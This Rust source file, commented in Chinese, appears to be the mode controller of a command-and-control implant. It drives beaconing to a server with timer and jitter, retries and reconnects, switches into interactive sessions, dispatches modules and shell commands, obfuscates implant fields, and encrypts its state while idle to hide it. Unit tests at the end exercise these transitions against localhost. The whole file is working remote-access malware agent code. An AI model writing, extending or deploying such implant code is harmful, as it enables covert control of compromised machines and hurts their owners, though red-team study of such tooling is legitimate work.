// 模式控制器
//
// 顶层状态机：{Boot, BeaconConnect, BeaconActive, Idle, SessionActive, Shutdown}。
// 主任务独占驱动，beacon 与 session 互斥、由这里同步调用。
// 可恢复失败睡 5 秒重试（至多 max_retries 次）；致命错误带非零状态码收场；
// 收尾时加密状态并清零主密钥。

use log::{error, info, warn};
use std::sync::Arc;
use std::time::Duration;

use crate::beacon::{self, BeaconOutcome};
use crate::config::{ConnectionMode, SharedState};
use crate::dispatch::Dispatcher;
use crate::error::Result;
use crate::http::{ConnectAttempt, HttpClient};
use crate::modules::ModuleRegistry;
use crate::obfuscation::ObfuscationMap;
use crate::session::{self, SessionOutcome};

/// 可恢复失败后的重试间隔
const RETRY_SLEEP: Duration = Duration::from_secs(5);

/// 控制器状态
enum ControllerState {
    Boot,
    BeaconConnect,
    BeaconActive,
    Idle,
    SessionActive,
    Shutdown { exit_code: i32 },
}

/// 模式控制器
pub struct Controller {
    state: Arc<SharedState>,
    modules: Arc<ModuleRegistry>,
    obfuscation: Arc<ObfuscationMap>,
    http: Arc<HttpClient>,
    dispatcher: Arc<Dispatcher>,
}

impl Controller {
    pub fn new(
        state: Arc<SharedState>,
        modules: Arc<ModuleRegistry>,
        obfuscation: Arc<ObfuscationMap>,
    ) -> Result<Self> {
        let http = Arc::new(HttpClient::new()?);
        let dispatcher = Arc::new(Dispatcher::new(
            Arc::clone(&state),
            Arc::clone(&modules),
            Arc::clone(&obfuscation),
        ));
        Ok(Self {
            state,
            modules,
            obfuscation,
            http,
            dispatcher,
        })
    }

    /// 驱动状态机直至 Shutdown，返回进程退出码
    pub async fn run(&self) -> i32 {
        let mut current = ControllerState::Boot;
        loop {
            current = match current {
                ControllerState::Boot => self.boot().await,
                ControllerState::BeaconConnect => self.beacon_connect().await,
                ControllerState::BeaconActive => self.beacon_active().await,
                ControllerState::Idle => self.idle().await,
                ControllerState::SessionActive => self.session_active().await,
                ControllerState::Shutdown { exit_code } => {
                    self.shutdown().await;
                    return exit_code;
                }
            };
        }
    }

    async fn boot(&self) -> ControllerState {
        let loaded = self.modules.list().await;
        info!("Loaded dynamic commands: {:?} ({} total)", loaded, loaded.len());

        match self.state.primary_mode().await {
            ConnectionMode::Session => {
                info!("Session mode is the primary connection type");
                ControllerState::SessionActive
            }
            ConnectionMode::Beacon => {
                info!("Beacon mode is the primary connection type");
                ControllerState::BeaconConnect
            }
        }
    }

    /// 建立（或恢复）beacon 会话
    ///
    /// id/timer/jitter 齐备时走 Reconnect，否则走 Connect。
    /// 可恢复失败睡 5 秒重试；重试耗尽或致命错误 → Shutdown(1)。
    async fn beacon_connect(&self) -> ControllerState {
        if let Err(e) = self.state.ensure_decrypted().await {
            error!("Cannot restore configuration state: {}", e);
            return ControllerState::Shutdown { exit_code: 1 };
        }

        let max_retries = self.state.max_retries().await.max(1);
        for attempt in 1..=max_retries {
            info!("Beacon connect attempt {}/{}", attempt, max_retries);

            let result = if self.state.has_connection_params().await {
                info!("HTTP Reconnect mode - ID, Jitter, and Timer are set");
                self.http.reconnect(&self.state, &self.obfuscation).await
            } else {
                info!("HTTP Connect mode - establishing new connection");
                self.http.connect(&self.state, &self.obfuscation).await
            };

            match result {
                Ok(ConnectAttempt::Success) => return ControllerState::BeaconActive,
                Ok(ConnectAttempt::Recoverable(reason)) => {
                    warn!("Connect attempt failed (recoverable): {}", reason);
                    if attempt < max_retries {
                        tokio::time::sleep(RETRY_SLEEP).await;
                    }
                }
                Err(e) => {
                    error!("Critical error establishing HTTP connection: {}", e);
                    return ControllerState::Shutdown { exit_code: 1 };
                }
            }
        }

        error!("All {} connect attempts failed", max_retries);
        ControllerState::Shutdown { exit_code: 1 }
    }

    async fn beacon_active(&self) -> ControllerState {
        match beacon::run(
            Arc::clone(&self.state),
            Arc::clone(&self.dispatcher),
            Arc::clone(&self.http),
            Arc::clone(&self.obfuscation),
        )
        .await
        {
            Ok(BeaconOutcome::SwitchSession) => ControllerState::SessionActive,
            Ok(BeaconOutcome::Completed) => ControllerState::Idle,
            Err(e) => {
                error!("Critical error during beacon: {}", e);
                ControllerState::Shutdown { exit_code: 1 }
            }
        }
    }

    /// 空闲窗口：加密后短暂停留，定时器到点经 BeaconConnect 解密恢复
    async fn idle(&self) -> ControllerState {
        if let Err(e) = self.state.encrypt_state().await {
            // 加密失败则降级为明文空闲（记录在案的安全降级）
            warn!("Continuing unencrypted: failed to encrypt idle state: {}", e);
        }
        tokio::time::sleep(RETRY_SLEEP).await;
        ControllerState::BeaconConnect
    }

    async fn session_active(&self) -> ControllerState {
        match session::run(
            Arc::clone(&self.state),
            Arc::clone(&self.modules),
            Arc::clone(&self.obfuscation),
        )
        .await
        {
            Ok(SessionOutcome::Shutdown) => ControllerState::Shutdown { exit_code: 0 },
            Ok(SessionOutcome::SwitchBeacon) | Ok(SessionOutcome::Closed) => {
                info!("Session ended, switching to beacon connect");
                ControllerState::BeaconConnect
            }
            Err(crate::error::AgentError::Config(msg)) => {
                // 配置缺失（HMAC 密钥）无法靠重试恢复
                error!("{}", msg);
                ControllerState::Shutdown { exit_code: 1 }
            }
            Err(e) => {
                error!("Session error: {}", e);
                tokio::time::sleep(RETRY_SLEEP).await;
                ControllerState::BeaconConnect
            }
        }
    }

    /// 收尾：加密残余状态，清零主密钥
    async fn shutdown(&self) {
        info!("Program ending, encrypting final state");
        if let Err(e) = self.state.encrypt_state().await {
            error!("Failed to encrypt state on shutdown: {}", e);
        }
        self.state.wipe_master_key().await;
        info!("Master key cleared");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::AgentConfig;

    fn plain_obfuscation() -> Arc<ObfuscationMap> {
        Arc::new(
            serde_json::from_str(
                r#"{
                    "implant_info": {
                        "name": "name", "os": "os", "address": "address",
                        "timer": "timer", "jitter": "jitter", "uuid": "uuid"
                    },
                    "commands": {
                        "obfuscation_name": "commands",
                        "command_uuid": "command_uuid",
                        "command": "command",
                        "data": "data",
                        "module": {"obfuscation_name": "module"},
                        "shell": {"obfuscation_name": "shell"}
                    }
                }"#,
            )
            .unwrap(),
        )
    }

    fn controller_with(config: AgentConfig) -> Controller {
        Controller::new(
            Arc::new(SharedState::new(config)),
            Arc::new(ModuleRegistry::new()),
            plain_obfuscation(),
        )
        .unwrap()
    }

    #[tokio::test]
    async fn test_boot_selects_primary_mode() {
        let mut config = AgentConfig::default();
        config.primary_mode = ConnectionMode::Session;
        let controller = controller_with(config);
        assert!(matches!(
            controller.boot().await,
            ControllerState::SessionActive
        ));

        let controller = controller_with(AgentConfig::default());
        assert!(matches!(
            controller.boot().await,
            ControllerState::BeaconConnect
        ));
    }

    #[tokio::test]
    async fn test_beacon_connect_exhaustion_is_fatal() {
        let mut config = AgentConfig::default();
        config.url = "http://127.0.0.1:1".to_string();
        config.max_retries = 1;
        let controller = controller_with(config);

        match controller.beacon_connect().await {
            ControllerState::Shutdown { exit_code } => assert_eq!(exit_code, 1),
            _ => panic!("expected shutdown after exhausted retries"),
        }
    }

    #[tokio::test]
    async fn test_session_without_key_is_fatal() {
        let mut config = AgentConfig::default();
        config.primary_mode = ConnectionMode::Session;
        let controller = controller_with(config);

        match controller.session_active().await {
            ControllerState::Shutdown { exit_code } => assert_eq!(exit_code, 1),
            _ => panic!("expected shutdown without HMAC key"),
        }
    }

    #[tokio::test]
    async fn test_shutdown_wipes_key_and_encrypts() {
        let controller = controller_with(AgentConfig::default());
        controller.shutdown().await;
        assert!(controller.state.is_encrypted().await);
    }
}
